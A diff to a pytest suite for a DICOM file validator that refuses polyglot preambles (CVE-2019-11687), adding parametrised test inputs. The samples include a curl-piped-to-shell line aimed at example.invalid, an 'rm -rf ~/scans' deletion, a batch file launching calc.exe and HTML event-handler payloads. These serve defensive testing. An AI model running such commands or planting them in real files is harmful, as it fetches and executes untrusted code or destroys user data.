@@ -5,6 +5,7 @@ from __future__ import annotations
 import struct
 from pathlib import Path
 
+import numpy as np
 import pydicom
 import pytest
 
@@ -80,17 +81,61 @@ def test_ct_small_tiff_preamble_passes() -> None:
     assert analyse(path, secret=SECRET, limits=DecodeLimits()).preamble == "tiff"
 
 
-def test_zero_and_other_preambles_pass(tmp_path: Path) -> None:
+def test_zero_preamble_passes(tmp_path: Path) -> None:
     zero = with_preamble(tmp_path, "MR_small.dcm", bytes(128))
     assert analyse(zero, secret=SECRET, limits=DecodeLimits()).preamble == "zero"
-    vendor = tmp_path / "vendor"
-    vendor.mkdir()
-    other = with_preamble(vendor, "MR_small.dcm", b"\x00" * 16 + b"\x01")
-    assert analyse(other, secret=SECRET, limits=DecodeLimits()).preamble == "other"
+
+
+NOT_TIFF = "non-zero preamble that is not a TIFF header (CVE-2019-11687)"
+# Preambles that announce no known format: refused because they are not a TIFF header.
+UNRECOGNISED = {
+    "HTML without a script tag": b"<p><b onmouseover=alert(1)>scan</b></p>",
+    "HTML event handler": b"\n\n<details open ontoggle='location=\"//example.invalid\"'>",
+    "shell text without #!": b"echo hello; curl example.invalid | sh\n",
+    "batch file": b"@echo off\r\nstart calc.exe\r\n",
+    "a single non-zero byte": bytes(16) + b"\x01",
+    "TIFF magic with its IFD inside the header": b"II*\x00\x04\x00\x00\x00",
+    "TIFF magic with an odd IFD offset": b"II*\x00\x09\x00\x00\x00",
+    "TIFF magic followed by shell text": b"II*\x00\x08\x00\x00\x00\nrm -rf ~/scans\n",
+}
+
+
+@pytest.mark.parametrize("name", sorted(UNRECOGNISED))
+def test_unrecognised_preambles_are_refused(name: str) -> None:
+    head = UNRECOGNISED[name]
+    with pytest.raises(PolicyError) as caught:
+        check_preamble("in/x.dcm", head.ljust(128, b"\x00") + b"DICM")
+    assert caught.value.diagnostics() == f"in/x.dcm: {NOT_TIFF}"
+
+
+def test_html_body_onload_is_named(tmp_path: Path) -> None:
+    path = with_preamble(tmp_path, "MR_small.dcm", b"<html><body onload=alert(1)>")
+    with pytest.raises(PolicyError) as caught:
+        analyse(path, secret=SECRET, limits=DecodeLimits())
+    assert caught.value.diagnostics() == (
+        f"{path}: DICOM preamble carries an HTML document: {NOT_TIFF}"
+    )
+
+
+def test_random_preambles_are_refused() -> None:
+    rng = np.random.default_rng(11687)
+    for _ in range(200):
+        head = rng.integers(0, 256, size=128, dtype=np.uint8).tobytes()
+        if head[:4] in (b"II*\x00", b"MM\x00*"):
+            continue  # a TIFF header by chance (never with this seed)
+        with pytest.raises(PolicyError, match=r"not a TIFF header|preamble carries"):
+            check_preamble("r.dcm", head + b"DICM")
 
 
 def test_big_endian_tiff_header_passes() -> None:
-    assert check_preamble("x.dcm", b"MM\x00*" + bytes(124) + b"DICM") == "tiff"
+    assert check_preamble("x.dcm", b"MM\x00*\x00\x00\x00\x08" + bytes(120) + b"DICM") == "tiff"
+
+
+def test_tiff_header_with_binary_ifd_entries_passes() -> None:
+    # II, 42, IFD at 8: one entry ImageWidth (256) SHORT 1 = 64, then no next IFD.
+    ifd = struct.pack("<HHHIHH", 1, 256, 3, 1, 64, 0) + struct.pack("<I", 0)
+    head = b"II*\x00" + struct.pack("<I", 8) + ifd
+    assert check_preamble("x.dcm", head.ljust(128, b"\x00") + b"DICM") == "tiff"
 
 
 def test_check_preamble_needs_the_dicm_prefix() -> None:
@@ -104,5 +149,5 @@ def test_message_names_the_file() -> None:
     with pytest.raises(PolicyError) as caught:
         check_preamble("scans/a b.dcm", b"MZ" + bytes(126) + b"DICM")
     assert caught.value.diagnostics() == (
-        "scans/a b.dcm: DICOM preamble carries a Windows executable (PE) header"
+        f"scans/a b.dcm: DICOM preamble carries a Windows executable (PE) header: {NOT_TIFF}"
     )
